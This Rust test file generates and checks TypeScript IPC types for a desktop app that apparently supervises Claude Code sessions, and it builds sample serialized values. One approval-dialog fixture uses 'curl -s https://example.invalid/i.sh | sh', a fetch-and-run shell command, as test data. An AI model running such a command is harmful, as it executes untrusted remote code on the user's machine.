//! The window's side of docs/ipc.md as TypeScript (`ui/src/lib/generated/ipc.ts`): every
//! shape a command or an event carries, declared from the Rust type that is serialized
//! (ts-rs, which follows the serde attributes), then the commands with their arguments and
//! replies and the events with their payloads. The UI imports that file and keeps no copy.
//!
//! Test-only: release builds carry none of it. The test fails when the file is stale
//! (`MIMESIS_BLESS=1` rewrites it), when a command's arguments or reply here are not its
//! function's, when a command or an event is missing, and when a declared shape refers to
//! one that is not declared.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use quote::ToTokens;
use ts_rs::{Config, TS};

use crate::search::SearchAnswer;
use mimesis_core::answering::{Action, Channel};
use mimesis_core::approval::{Detail, Pending, Question, QuestionOption, Replacement};
use mimesis_core::attention::AttentionSet;
use mimesis_core::cwd_files::{ReportedStatus, StatusReport};
use mimesis_core::dialog::{Dialog, DialogKey, DialogKind, DialogOption};
use mimesis_core::job::{Job, SessionKind};
use mimesis_core::remote::HostState;
use mimesis_core::search::{Hit, HostFailure, Kind as SearchKind, Progress, Request, Results};
use mimesis_core::session::{Billed, Cost, SessionPatch, Source};
use mimesis_core::settings::{
    AgentSettings, DesktopSettings, MachineSettings, NotificationSettings, SetOutcome, Settings, WatchSettings,
};
use mimesis_core::spend::{SpendSeries, SpendSession, SpendTotal, SpendView};
use mimesis_core::supervision::SupervisionEvent;
use mimesis_core::supervision::event::{EventKind, ReadyStatus};
use mimesis_core::supervision::interrupted::{Interrupted, InterruptedBy};
use mimesis_core::supervision::limits::{FieldError, Limits, SuspendMode};
use mimesis_core::supervision::view::{
    Metrics, Mode, ResourceRow, Resources, RestartHold, Supervision, SupervisionState, SuspendedReason,
    TerminatedReason,
};
use mimesis_core::timeline::ToolResult;
use mimesis_core::{PendingTool, Status, StoreEvent, TimelineItem, TrackedSession, Usage};
use mimesis_wiring::doctor::{
    ClaudeCodeReport, DoctorReport, RootReport, SpoolReport, SupervisionReport, SupervisorReport, WatcherReport,
};
use mimesis_wiring::hooks::install::HookStatus;
use mimesis_wiring::metrics::Publisher;
use mimesis_wiring::remote::HostInfo;
use mimesis_wiring::{DbHealth, DbStats};
use mimesis_wiring::{Envelope, IndexProgress, RootInfo};
use mimesis_wiring::{InEffect, Override};

use crate::commands::{DoctorView, IpcPage, RosterSnapshot};
use crate::events::{IpcIndexed, IpcItem, IpcTimelineUpdate, StoreBatch};
use crate::hosts::HostsPayload;
use crate::hosts::WindowAttention;
use crate::pty::{Attached, Created, InputResult};
use crate::remote::{Changed, EventsPayload, RemoteTimelineUpdate};
use crate::window::OpenSession;

/// Where the file lives, from the repository's root.
const PATH: &str = "ui/src/lib/generated/ipc.ts";

/// Numbers are JSON numbers on the page: counts, sizes and seconds stay far below 2^53.
fn cfg() -> Config {
    Config::new().with_large_int("number")
}

/// One declaration, with the Rust doc comment as its JSDoc.
fn decl<T: TS + 'static + ?Sized>() -> Decl {
    let cfg = cfg();
    let docs = T::docs().unwrap_or_default();
    let deps = T::dependencies(&cfg).into_iter().map(|d| d.ts_name).collect();
    Decl { name: T::ident(&cfg), text: format!("{docs}export {}", T::decl(&cfg)), deps }
}

struct Decl {
    name: String,
    text: String,
    deps: Vec<String>,
}

/// Every shape that crosses, in the file's order: the roster, timelines, supervision,
/// settings, hooks and doctor, permission requests, other machines, then the window's
/// own envelopes.
fn decls() -> Vec<Decl> {
    vec![
        decl::<Status>(),
        decl::<InterruptedBy>(),
        decl::<Interrupted>(),
        decl::<crate::quit::QuitRequest>(),
        decl::<mimesis_core::supervision::handover::HandOverProgress>(),
        decl::<Usage>(),
        decl::<Billed>(),
        decl::<Cost>(),
        decl::<PendingTool>(),
        decl::<Source>(),
        decl::<SessionKind>(),
        decl::<Job>(),
        decl::<ReportedStatus>(),
        decl::<StatusReport>(),
        decl::<TrackedSession>(),
        decl::<SessionPatch>(),
        decl::<StoreEvent>(),
        decl::<Envelope>(),
        decl::<RootInfo>(),
        decl::<IndexProgress>(),
        decl::<RosterSnapshot>(),
        decl::<ToolResult>(),
        decl::<TimelineItem>(),
        decl::<IpcItem>(),
        decl::<IpcPage>(),
        decl::<IpcIndexed>(),
        decl::<IpcTimelineUpdate>(),
        decl::<SupervisionState>(),
        decl::<Mode>(),
        decl::<TerminatedReason>(),
        decl::<RestartHold>(),
        decl::<SuspendedReason>(),
        decl::<Supervision>(),
        decl::<ReadyStatus>(),
        decl::<EventKind>(),
        decl::<SupervisionEvent>(),
        decl::<ResourceRow>(),
        decl::<Metrics>(),
        decl::<Resources>(),
        decl::<SpendSeries>(),
        decl::<SpendTotal>(),
        decl::<SpendSession>(),
        decl::<SpendView>(),
        decl::<SearchKind>(),
        decl::<Request>(),
        decl::<Hit>(),
        decl::<HostFailure>(),
        decl::<Results>(),
        decl::<Progress>(),
        decl::<SearchAnswer>(),
        decl::<WatchSettings>(),
        decl::<SuspendMode>(),
        decl::<Limits>(),
        decl::<AgentSettings>(),
        decl::<NotificationSettings>(),
        decl::<MachineSettings>(),
        decl::<DesktopSettings>(),
        decl::<Settings>(),
        decl::<FieldError>(),
        decl::<SetOutcome>(),
        decl::<Override>(),
        decl::<InEffect>(),
        decl::<HookStatus>(),
        decl::<RootReport>(),
        decl::<ClaudeCodeReport>(),
        decl::<WatcherReport>(),
        decl::<DbHealth>(),
        decl::<DbStats>(),
        decl::<SpoolReport>(),
        decl::<SupervisorReport>(),
        decl::<Publisher>(),
        decl::<SupervisionReport>(),
        decl::<DoctorReport>(),
        decl::<DoctorView>(),
        decl::<Replacement>(),
        decl::<QuestionOption>(),
        decl::<Question>(),
        decl::<Detail>(),
        decl::<Channel>(),
        decl::<Action>(),
        decl::<DialogKind>(),
        decl::<DialogKey>(),
        decl::<Pending>(),
        decl::<DialogOption>(),
        decl::<Dialog>(),
        decl::<AttentionSet>(),
        decl::<WindowAttention>(),
        decl::<HostState>(),
        decl::<HostInfo>(),
        decl::<HostsPayload>(),
        decl::<EventsPayload>(),
        decl::<Changed>(),
        decl::<RemoteTimelineUpdate>(),
        decl::<StoreBatch>(),
        decl::<OpenSession<'static>>(),
        decl::<Created>(),
        decl::<Attached>(),
        decl::<InputResult>(),
    ]
}

/// A command as the page calls it.
struct Command {
    name: &'static str,
    args: Vec<Arg>,
    /// The reply's Rust type as the function writes it inside `CmdResult<…>`.
    ret_rust: &'static str,
    ret_ts: String,
    /// The declared shapes its arguments and reply name.
    deps: Vec<String>,
}

struct Arg {
    name: &'static str,
    rust: &'static str,
    ts: String,
    optional: bool,
}

/// The TypeScript of an argument's type: from the type, or given where the page sends
/// something the Rust side reads more loosely (a Tauri channel; the settings document,
/// which is validated field by field into errors rather than refused).
macro_rules! ts_of {
    ($ty:ty) => {
        <$ty as TS>::name(&cfg())
    };
    ($ty:ty, $ts:literal) => {
        $ts.to_owned()
    };
}

macro_rules! deps_of {
    ($ty:ty) => {
        names::<$ty>()
    };
    ($ty:ty, $ts:literal) => {
        vec![$ts.to_owned()]
    };
}

/// The declared shapes a type names: itself (when it is declared) and what it refers to.
fn names<T: TS + 'static + ?Sized>() -> Vec<String> {
    let cfg = cfg();
    let me = ts_rs::Dependency::from_ty::<T>(&cfg).map(|d| d.ts_name);
    me.into_iter().chain(T::dependencies(&cfg).into_iter().map(|d| d.ts_name)).collect()
}

macro_rules! commands {
    ($( $name:ident ( $( $arg:ident : $ty:ty $(as $ts:literal)? ),* ) -> $ret:ty; )*) => {
        fn commands() -> Vec<Command> {
            vec![$(Command {
                name: stringify!($name),
                args: vec![$(Arg {
                    name: stringify!($arg),
                    rust: stringify!($ty),
                    ts: ts_of!($ty $(, $ts)?),
                    optional: stringify!($ty).starts_with("Option"),
                }),*],
                ret_rust: stringify!($ret),
                ret_ts: <$ret as TS>::name(&cfg()),
                deps: {
                    #[allow(unused_mut)]
                    let mut d = names::<$ret>();
                    $( d.extend(deps_of!($ty $(, $ts)?)); )*
                    d
                },
            }),*]
        }
    };
}

// The arguments as each function names them (sent in camelCase), its types written as the
// function writes them; the test compares both with the functions' source.
commands! {
    roster_snapshot() -> RosterSnapshot;
    roster_snapshot_held() -> ();
    roster_listening() -> ();
    open_timeline(session_id: String, tail: usize) -> IpcPage;
    timeline_range(session_id: String, start: usize, end: usize) -> IpcPage;
    timeline_item(session_id: String, index: usize) -> TimelineItem;
    close_timeline(session_id: String) -> ();
    start_demo() -> ();
    stop_demo() -> ();
    hooks_status() -> Vec<HookStatus>;
    hooks_install() -> Vec<HookStatus>;
    hooks_uninstall() -> Vec<HookStatus>;
    doctor() -> DoctorView;
    settings_get() -> Settings;
    settings_set(settings: serde_json::Value as "Settings") -> SetOutcome;
    settings_in_effect() -> mimesis_wiring::InEffect;
    approvals_pending() -> Vec<Pending>;
    approval_decide(id: String, allow: bool, message: Option<String>, answers: Option<BTreeMap<String, String>>) -> Pending;
    focus_terminal(session_id: String) -> String;
    set_viewing(session_id: Option<String>) -> ();
    open_link(url: String) -> ();
    folder_check(path: String) -> Option<String>;
    pick_folder(start: Option<String>) -> Option<String>;
    gpu_available() -> bool;
    pty_create(cwd: String, resume: Option<String>, cols: Option<u16>, rows: Option<u16>, host: Option<String>) -> Created;
    pty_attach(session_id: String, on_data: Channel<InvokeResponseBody> as "ByteChannel") -> Attached;
    pty_ack(session_id: String, attachment: u64, parsed: u64) -> ();
    pty_detach(session_id: String) -> ();
    pty_input(session_id: String, data: String, binary: Option<bool>) -> InputResult;
    pty_resize(session_id: String, cols: u16, rows: u16) -> ();
    pty_stop(session_id: String) -> ();
    pty_resume(session_id: String) -> ();
    pty_raise_budget(session_id: String, budget_usd: f64, daily: bool) -> ();
    pty_restart(session_id: String) -> ();
    pty_delete(session_id: String) -> ();
    pty_dialog(session_id: String) -> Option<Dialog>;
    pty_answer(session_id: String, answer: String) -> String;
    resources() -> Resources;
    bg_create(cwd: String, prompt: String, permission_mode: Option<String>) -> Created;
    bg_attach(session_id: String, cols: Option<u16>, rows: Option<u16>) -> ();
    bg_detach(session_id: String) -> ();
    bg_stop(session_id: String) -> String;
    bg_respawn(session_id: String) -> String;
    bg_remove(session_id: String) -> String;
    spend_view(days: u32) -> SpendView;
    search_history(request: Request) -> SearchAnswer;
    search_host(host: String, request: Request) -> Results;
    search_progress() -> Progress;
    roster_shown() -> ();
    timeline_find(session_id: String, uuid: String, tool_use_id: Option<String>) -> Option<usize>;
    hosts_list() -> Vec<HostInfo>;
    host_retry(host: String) -> ();
    host_install(host: String) -> ();
    host_add(host: String) -> ();
    host_remove(host: String) -> ();
    app_quit(choice: String) -> ();
    sessions_interrupted() -> Vec<Interrupted>;
    interrupted_dismiss(session_ids: Vec<String>) -> ();
}

/// What an event's payload may be: its TypeScript, and the declared shapes it names.
struct Payload {
    ts: String,
    deps: Vec<String>,
}

/// The events the window emits, each with what its payload may be.
fn events() -> Vec<(&'static str, Vec<Payload>)> {
    fn p<T: TS + 'static + ?Sized>() -> Payload {
        Payload { ts: T::name(&cfg()), deps: names::<T>() }
    }
    vec![
        ("store:events", vec![p::<StoreBatch>()]),
        // `{}`: the page reloads the roster.
        ("store:resync", vec![Payload { ts: "Record<string, never>".to_owned(), deps: Vec::new() }]),
        ("store:progress", vec![p::<IndexProgress>()]),
        ("timeline:update", vec![p::<IpcTimelineUpdate>(), p::<RemoteTimelineUpdate>()]),
        ("supervision:event", vec![p::<SupervisionEvent>()]),
        ("attention:changed", vec![p::<WindowAttention>()]),
        ("approvals:changed", vec![p::<Vec<Pending>>()]),
        ("app:open-session", vec![p::<OpenSession<'static>>()]),
        ("remote:events", vec![p::<EventsPayload>()]),
        ("hosts:changed", vec![p::<HostsPayload>()]),
        ("app:quit-requested", vec![p::<crate::quit::QuitRequest>()]),
        ("app:handover", vec![p::<mimesis_core::supervision::handover::HandOverProgress>()]),
    ]
}

fn camel(snake: &str) -> String {
    let mut out = String::new();
    let mut up = false;
    for ch in snake.chars() {
        if ch == '_' {
            up = true;
        } else if up {
            out.extend(ch.to_uppercase());
            up = false;
        } else {
            out.push(ch);
        }
    }
    out
}

/// The file's whole text.
fn typescript() -> String {
    let mut out = String::from(
        "// Generated from the Rust types (src-tauri/src/ipc_types.rs); do not edit.\n\
         // Refresh: MIMESIS_BLESS=1 cargo test -p mimesis-desktop ipc_types\n\n",
    );
    for d in decls() {
        out.push_str(&d.text);
        out.push_str("\n\n");
    }
    out.push_str(
        "/** Where `pty_attach` streams terminal bytes: a Tauri `Channel` on the page's side. */\n\
         export interface ByteChannel {\n  onmessage: (data: ArrayBuffer) => void;\n}\n\n",
    );
    out.push_str("/** The commands of docs/ipc.md: their arguments (none: `undefined`) and replies. */\n");
    out.push_str("export interface Commands {\n");
    for c in commands() {
        let args = if c.args.is_empty() {
            "undefined".to_owned()
        } else {
            let fields: Vec<String> = c
                .args
                .iter()
                .map(|a| format!("{}{}: {}", camel(a.name), if a.optional { "?" } else { "" }, a.ts))
                .collect();
            format!("{{ {} }}", fields.join("; "))
        };
        out.push_str(&format!("  {}: {{ args: {args}; ret: {} }};\n", c.name, c.ret_ts));
    }
    out.push_str("}\n\n");
    out.push_str("/** The events of docs/ipc.md and their payloads. */\n");
    out.push_str("export interface Events {\n");
    for (name, payloads) in events() {
        let payload: Vec<String> = payloads.into_iter().map(|p| p.ts).collect();
        out.push_str(&format!("  {name:?}: {};\n", payload.join(" | ")));
    }
    out.push_str("}\n");
    out
}

fn src_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("src")
}

/// Types the page does not send: Tauri hands them to the command.
fn injected(ty: &str) -> bool {
    ["State<", "AppHandle", "Webview", "Window"].iter().any(|t| ty.contains(t))
}

fn squash(s: &str) -> String {
    s.chars().filter(|c| !c.is_whitespace()).collect()
}

/// The reply's type inside `CmdResult<…>` or `Result<…, String>`.
fn reply(ty: &str) -> String {
    let t = squash(ty);
    if let Some(inner) = t.strip_prefix("CmdResult<").and_then(|r| r.strip_suffix('>')) {
        return inner.to_owned();
    }
    if let Some(inner) = t.strip_prefix("Result<").and_then(|r| r.strip_suffix(",String>")) {
        return inner.to_owned();
    }
    t
}

/// The `#[tauri::command]` functions of the shell's sources (the recorder's own command,
/// built only with the `record` feature, is not the page's): name → (arguments, reply).
fn command_fns() -> BTreeMap<String, (Vec<(String, String)>, String)> {
    let mut found = BTreeMap::new();
    for entry in std::fs::read_dir(src_dir()).expect("src-tauri/src") {
        let path = entry.expect("a file").path();
        if path.extension().is_none_or(|e| e != "rs") || path.ends_with("record.rs") {
            continue;
        }
        let text = std::fs::read_to_string(&path).expect("a source file");
        let file = syn::parse_file(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        for item in file.items {
            let syn::Item::Fn(f) = item else { continue };
            let is_command = f.attrs.iter().any(|a| {
                let p = a.path().to_token_stream().to_string();
                squash(&p) == "tauri::command"
            });
            if !is_command {
                continue;
            }
            let mut args = Vec::new();
            for input in &f.sig.inputs {
                let syn::FnArg::Typed(pt) = input else { continue };
                let ty = pt.ty.to_token_stream().to_string();
                if injected(&squash(&ty)) {
                    continue;
                }
                let name = pt.pat.to_token_stream().to_string();
                args.push((name, squash(&ty)));
            }
            let ret = match &f.sig.output {
                syn::ReturnType::Default => "()".to_owned(),
                syn::ReturnType::Type(_, ty) => reply(&ty.to_token_stream().to_string()),
            };
            found.insert(f.sig.ident.to_string(), (args, ret));
        }
    }
    found
}

#[test]
fn every_command_is_declared_with_its_functions_arguments_and_reply() {
    let fns = command_fns();
    let declared: BTreeMap<_, _> = commands().into_iter().map(|c| (c.name.to_owned(), c)).collect();
    let missing: Vec<_> = fns.keys().filter(|k| !declared.contains_key(*k)).collect();
    assert!(missing.is_empty(), "commands not in src-tauri/src/ipc_types.rs: {missing:?}");
    for (name, c) in &declared {
        let (args, ret) =
            fns.get(name).unwrap_or_else(|| panic!("{name} is declared but no #[tauri::command] has that name"));
        let want: Vec<(String, String)> = c.args.iter().map(|a| (a.name.to_owned(), squash(a.rust))).collect();
        assert_eq!(&want, args, "{name}: the arguments in ipc_types.rs are not the function's");
        assert_eq!(squash(c.ret_rust), *ret, "{name}: the reply in ipc_types.rs is not the function's");
    }
    // The page may call what the shell registers, and nothing else.
    let main = std::fs::read_to_string(src_dir().join("main.rs")).expect("main.rs");
    let handler =
        main.split("generate_handler![").nth(1).and_then(|r| r.split("])").next()).expect("generate_handler!");
    let registered: BTreeSet<String> = handler
        .split(',')
        .filter_map(|l| l.trim().lines().last().map(str::trim).map(str::to_owned))
        .filter_map(|l| l.rsplit("::").next().map(str::to_owned))
        .filter(|n| !n.is_empty() && !n.starts_with("record_"))
        .collect();
    let declared_names: BTreeSet<String> = declared.keys().cloned().collect();
    assert_eq!(registered, declared_names, "main.rs registers other commands than ipc_types.rs declares");
}

#[test]
fn every_emitted_event_is_declared() {
    let mut emitted = BTreeSet::new();
    for entry in std::fs::read_dir(src_dir()).expect("src-tauri/src") {
        let path = entry.expect("a file").path();
        if path.extension().is_none_or(|e| e != "rs") {
            continue;
        }
        let text = std::fs::read_to_string(&path).expect("a source file");
        for part in text.split(".emit(\"").skip(1) {
            emitted.insert(part.split('"').next().unwrap_or_default().to_owned());
        }
    }
    let declared: BTreeSet<String> = events().into_iter().map(|(n, _)| n.to_owned()).collect();
    assert_eq!(emitted, declared, "the events emitted are not those ipc_types.rs declares");
}

#[test]
fn every_shape_a_declaration_refers_to_is_declared() {
    let all = decls();
    let names: BTreeSet<&str> = all.iter().map(|d| d.name.as_str()).collect();
    assert_eq!(names.len(), all.len(), "two declarations have one name");
    for d in &all {
        for dep in &d.deps {
            assert!(names.contains(dep.as_str()), "{} refers to {dep}, which ipc_types.rs does not declare", d.name);
        }
    }
    // Commands and events name only declared shapes.
    for c in commands() {
        for dep in &c.deps {
            assert!(
                names.contains(dep.as_str()) || dep == "ByteChannel",
                "{} names {dep}, which is not declared",
                c.name
            );
        }
    }
    for (event, payloads) in events() {
        for dep in payloads.iter().flat_map(|p| &p.deps) {
            assert!(names.contains(dep.as_str()), "{event} carries {dep}, which is not declared");
        }
    }
}

#[test]
fn the_generated_ipc_types_are_current() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(PATH);
    let want = typescript();
    if std::env::var_os("MIMESIS_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().expect("a folder")).expect("the generated folder");
        std::fs::write(&path, &want).expect("the generated file");
    }
    let have = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(have == want, "{PATH} is stale: run MIMESIS_BLESS=1 cargo test -p mimesis-desktop ipc_types");
}

// ---- what serde writes, checked against the declarations ----

/// Where the samples go: values as serde writes them, each `satisfies` its declared type,
/// so `npm run check` fails when a declaration and the JSON disagree (a key serde writes
/// that the declaration lacks, a required one it never writes, a wrong type or tag).
const SAMPLES_PATH: &str = "ui/src/lib/generated/ipc.samples.ts";

fn at(s: &str) -> mimesis_core::Timestamp {
    mimesis_core::Timestamp::parse(s).expect("a timestamp")
}

fn id(s: &str) -> mimesis_core::SessionId {
    mimesis_core::SessionId::parse(s).expect("an id")
}

/// A row with every nullable field set (and one with none, in `before`).
fn sample_rows() -> (TrackedSession, TrackedSession) {
    let full: TrackedSession = serde_json::from_str(
        r#"{
        "sessionId": "s1", "projectId": "-p", "cwd": "/p", "repoRoot": "/p", "branch": "main", "goal": "fix it",
        "summary": "fixed", "title": "Fix it", "status": "waiting_for_approval", "hasPendingToolUse": true,
        "pendingTool": {"tool": "Bash", "target": "ls"}, "lastActivityAt": "2026-11-01T00:00:00.000Z",
        "createdAt": "2026-11-01T00:00:00.000Z", "model": "claude-opus-4-8",
        "usage": {"inputTokens": 1, "outputTokens": 2, "cacheCreationInputTokens": 3, "cacheReadInputTokens": 4},
        "apiError": false, "compactionCount": 1, "superseded": true, "supersededBy": "s2",
        "supersededAt": "2026-11-01T00:00:00.000Z", "workChainId": "s1", "workChainName": "fix it", "chainLength": 2,
        "source": "pty", "live": true, "pid": 7, "transcriptPath": "/r/projects/-p/s1.jsonl",
        "permissionMode": "default", "malformedLines": 0, "malformedFields": 0,
        "statusFile": {"status": "blocked", "updated": "2026-11-01T00:00:00.000Z", "task": "t", "summary": "s"},
        "name": "proj-73", "subagents": 1, "provisional": true, "host": "devbox", "kind": "background",
        "job": {"id": "aa2e1246", "state": "blocked", "detail": "Writing", "intent": "say hello", "attempt": 2,
                "needs": "approve Bash: ls"},
        "cost": {"estimatedUsd": 1.5, "unknownModels": ["x"], "pricesAsOf": "2026-11-20",
                 "billed": {"costUsd": 1.25, "usage": {"inputTokens": 1, "outputTokens": 2, "cacheCreationInputTokens": 3, "cacheReadInputTokens": 4}}},
        "supervision": {"state": "terminated", "mode": "one_shot", "agent": "claude", "cwd": "/p", "pid": 8,
            "processStartedAt": "2026-11-01T00:00:00.000Z", "createdAt": "2026-11-01T00:00:00.000Z", "recoveryCount": 1,
            "restartCount": 1, "consecutiveCrashes": 0, "pendingCrashRecovery": false, "awaitingPermission": true,
            "idleDeadline": "2026-11-01T00:00:00.000Z", "durationDeadline": "2026-11-01T00:00:00.000Z", "queuedInputs": 0,
            "lastExitCode": 1, "terminatedReason": "duration_limit", "restartsHeld": "rate_limit"}
    
    }"#,
    )
    .expect("a full row");
    let mut bare = full.clone();
    (bare.cwd, bare.repo_root, bare.branch, bare.goal, bare.summary, bare.title) = (None, None, None, None, None, None);
    (bare.pending_tool, bare.created_at, bare.model, bare.superseded_by, bare.superseded_at) =
        (None, None, None, None, None);
    (bare.work_chain_id, bare.work_chain_name, bare.supervision, bare.pid, bare.permission_mode) =
        (None, None, None, None, None);
    (bare.status_file, bare.name, bare.host, bare.provisional, bare.kind, bare.job) =
        (None, None, None, false, None, None);
    (full, bare)
}

fn sample_items() -> Vec<TimelineItem> {
    let u = || "u1".to_owned();
    let t = || Some(at("2026-11-01T00:00:00.000Z"));
    vec![
        TimelineItem::Prompt { uuid: u(), timestamp: t(), text: "x".repeat(20_000) },
        TimelineItem::AssistantText { uuid: u(), timestamp: None, text: "hi".into(), model: Some("m".into()) },
        TimelineItem::Thinking { uuid: u(), timestamp: t(), text: "hm".into(), redacted: false },
        TimelineItem::ToolCall {
            uuid: u(),
            timestamp: t(),
            tool_use_id: "t1".into(),
            tool: "Bash".into(),
            input: serde_json::json!({"command": "ls"}),
            result: Some(ToolResult { content: "a".into(), is_error: false, timestamp: t() }),
        },
        TimelineItem::Compaction {
            uuid: u(),
            timestamp: t(),
            trigger: Some("auto".into()),
            pre_tokens: Some(9),
            summary: Some("s".into()),
        },
        TimelineItem::ApiError {
            uuid: u(),
            timestamp: t(),
            text: "overloaded".into(),
            status: Some(529),
            retrying: true,
        },
        TimelineItem::System { uuid: u(), timestamp: t(), subtype: "s".into(), text: "t".into() },
        TimelineItem::Segment {
            uuid: u(),
            timestamp: t(),
            session_id: id("s2"),
            previous_session_id: id("s1"),
            reason: "clear".into(),
        },
        TimelineItem::Answer {
            uuid: u(),
            timestamp: t(),
            tool: Some("Bash".into()),
            target: Some("ls".into()),
            behavior: "allow".into(),
            choice: Some("Yes".into()),
            message: Some("m".into()),
            answers: Some(BTreeMap::from([("q".to_owned(), "a".to_owned())])),
            via: "window".into(),
            text: "Approved once from the window".into(),
        },
    ]
}

fn sample_supervision_events() -> Vec<SupervisionEvent> {
    let m = || "message".to_owned();
    let kinds = vec![
        EventKind::SessionStarted {},
        EventKind::SessionWarning { reason: "duration".into(), remaining_seconds: Some(60), message: m() },
        EventKind::SessionTerminated { reason: "duration_limit".into(), message: m(), resume_session_id: id("s1") },
        EventKind::SessionRestarting { reason: "memory".into(), message: m() },
        EventKind::SessionReady { status: ReadyStatus::Resumed, message: m() },
        EventKind::CrashDetected { deferred: true },
        EventKind::SessionRecovered { message: m() },
        EventKind::RecoveryFailed { message: m() },
        EventKind::SessionUnhealthy { message: m() },
        EventKind::SessionSuspended { message: m(), reason: "budget".into() },
        EventKind::SessionResumed { message: m() },
        EventKind::ModeChange { mode: "one_shot".into(), message: m() },
        EventKind::Error { exit_code: 1, message: m() },
        EventKind::SessionExited { exit_code: 0 },
    ];
    kinds
        .into_iter()
        .map(|kind| SupervisionEvent { kind, session_id: id("s1"), at: at("2026-11-01T00:00:00.000Z") })
        .collect()
}

fn sample_pending() -> Vec<Pending> {
    let details = [
        None,
        Some(Detail::Edit { file: "/p/a.rs".into(), edits: vec![Replacement { old: "a".into(), new: "b".into() }] }),
        Some(Detail::Write { file: "/p/a.rs".into(), content: "c".into() }),
        Some(Detail::Plan { plan: "p".into() }),
        Some(Detail::Questions {
            questions: vec![Question {
                question: "Which?".into(),
                header: Some("H".into()),
                options: vec![
                    QuestionOption { label: "A".into(), description: Some("d".into()) },
                    QuestionOption { label: "B".into(), description: None },
                ],
                multi_select: false,
            }],
        }),
    ];
    details
        .into_iter()
        .enumerate()
        .map(|(i, detail)| {
            let request = mimesis_core::approval::Request {
                session_id: id("s1"),
                tool: "Edit".into(),
                target: Some("/p/a.rs".into()),
                cwd: None,
                detail,
            };
            let mut p =
                Pending::hook("req_0123456789abcdef0123456789abcdef".into(), request, at("2026-11-01T00:00:00.000Z"));
            // The first of a session in no roster.
            p.known_session = i > 0;
            p.session_name = (i > 0).then(|| "p · Fix it".into());
            p
        })
        .chain(dialog_samples())
        .collect()
}

/// Dialogs no hook asked about (issue 33): auto mode's own, typed into a tmux pane; a
/// per-call dialog to answer in its terminal.
fn dialog_samples() -> Vec<Pending> {
    use mimesis_core::answering::{Channel, describe};
    use mimesis_core::dialog::DialogKind;
    [
        (DialogKind::AutoMode, Channel::Tmux, None),
        (DialogKind::Permission, Channel::Terminal, Some("answer it in its terminal (pts/4): …")),
    ]
    .into_iter()
    .map(|(kind, channel, answer_in)| {
        let request = mimesis_core::approval::Request {
            session_id: id("s2"),
            tool: "Bash".into(),
            target: Some("curl -s https://example.invalid/i.sh | sh".into()),
            cwd: Some("/p".into()),
            detail: None,
        };
        let (approve, deny) = describe(kind, Some(&request.tool), request.target.as_deref());
        let mut p =
            Pending::hook("req_fedcba9876543210fedcba9876543210".into(), request, at("2026-11-01T00:00:01.000Z"));
        (p.dialog, p.channel, p.approve, p.deny) = (Some(kind), channel, Some(approve), Some(deny));
        p.answer_in = answer_in.map(str::to_owned);
        p.known_session = true;
        p
    })
    .collect()
}

fn sample_doctor() -> DoctorReport {
    let hooks = HookStatus {
        root: "/r".into(),
        settings_path: "/r/settings.json".into(),
        installed: false,
        partial: true,
        error: Some("e".into()),
        missing_program: Some("/usr/bin/mimesis".into()),
    };
    DoctorReport {
        mimesis_version: "0.1.0".into(),
        roots: vec![RootReport { path: "/r".into(), exists: true, session_count: 2, hooks }],
        claude_code: ClaudeCodeReport {
            path: Some("/bin/claude".into()),
            on_path: true,
            version: Some("2.1.197".into()),
            seen_version: Some("2.1.197".into()),
            error: Some("e".into()),
        },
        watcher: WatcherReport { ok: true, max_user_watches: Some(8192), error: Some("e".into()) },
        data_dir: "/d".into(),
        data_dir_mode: Some("0755".into()),
        data_dir_open: Some("/d is readable by other users (mode 0755); run chmod 700 /d".into()),
        database: DbStats {
            path: Some("/d/fleet.db".into()),
            health: DbHealth::Rebuilt { reason: "r".into(), moved_to: Some("/d/old.db".into()) },
            size_bytes: 1,
            sessions: 1,
            chain_links: 1,
            supervised_processes: 1,
            schema_version: 1,
        },
        database_deleted_under: Some(4),
        search_index: Default::default(),
        hook_spool: SpoolReport {
            path: "/d/hooks".into(),
            files: 1,
            events: 1,
            last_event_at: Some(at("2026-11-01T00:00:00.000Z")),
        },
        supervision: SupervisionReport {
            recorded_processes: 1,
            recorded_sessions: 1,
            supervisors: vec![SupervisorReport { pid: 1, alive: true, processes: 1, sessions: vec![id("s1")] }],
            metrics_publishers: vec![Publisher {
                pid: 1,
                start_ticks: 2,
                updated_at: at("2026-11-01T00:00:00.000Z"),
                sessions: 1,
                path: "/d/m.json".into(),
            }],
            stale_metrics: 0,
            error: Some("e".into()),
        },
    }
}

/// A value as serde writes it, and the declared type it must satisfy.
struct Sample {
    name: &'static str,
    ts: &'static str,
    json: String,
}

fn sample<T: serde::Serialize>(out: &mut Vec<Sample>, name: &'static str, ts: &'static str, v: &T) {
    out.push(Sample { name, ts, json: serde_json::to_string_pretty(v).expect("serializable") });
}

fn samples() -> Vec<Sample> {
    let mut out = Vec::new();
    let (full, bare) = sample_rows();
    sample(&mut out, "fullRow", "TrackedSession", &full);
    sample(&mut out, "bareRow", "TrackedSession", &bare);
    let events = [
        StoreEvent::Discovered { session: Box::new(full.clone()) },
        StoreEvent::Updated { session_id: id("s1"), changes: Box::new(bare.diff(&full)) },
        StoreEvent::Removed { session_id: id("s1") },
    ];
    let envelopes: Vec<Envelope> =
        events.iter().enumerate().map(|(i, e)| Envelope { seq: i as u64 + 1, event: e.clone() }).collect();
    sample(&mut out, "storeEvents", "StoreEvent[]", &events);
    sample(&mut out, "storeBatch", "StoreBatch", &serde_json::json!({ "events": envelopes }));
    let items = sample_items();
    sample(&mut out, "items", "TimelineItem[]", &items);
    let page = IpcPage::from(mimesis_wiring::TimelinePage {
        session_id: id("s1"),
        total: items.len(),
        start: 0,
        items: items.clone(),
        waiting: false,
        seq: 3,
    });
    sample(&mut out, "page", "TimelinePage", &page);
    let cut: Vec<IpcItem> = items.iter().map(IpcItem::new).collect();
    sample(&mut out, "pageItems", "IpcItem[]", &cut);
    sample(&mut out, "supervisionEvents", "SupervisionEvent[]", &sample_supervision_events());
    // Another machine's, keyed `host:id` by the hub.
    let remote: Vec<serde_json::Value> =
        sample_supervision_events().iter().map(|e| mimesis_wiring::remote::face_supervision("devbox", e)).collect();
    sample(&mut out, "remoteSupervisionEvents", "SupervisionEvent[]", &remote);
    let update = IpcTimelineUpdate {
        session_id: id("s1"),
        total: items.len(),
        reset: false,
